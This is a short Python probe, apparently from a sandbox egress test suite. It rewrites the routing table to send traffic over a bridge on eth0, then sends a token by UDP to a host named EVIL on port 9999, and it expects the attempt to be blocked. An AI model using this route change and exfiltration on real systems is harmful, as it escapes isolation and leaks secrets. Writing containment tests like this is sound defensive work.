"""
how: a default route over the bridge
expect: shut
unseen: a plain network would carry it, as it has a way there already
"""

from frames import changed
from land import BRIDGE, EVIL
from sockets import udp


def attempt(token):
    return changed(
        ["route", "replace", "0.0.0.0/1", "via", BRIDGE, "onlink", "dev", "eth0"], lambda: udp(EVIL, 9999, token)
    )
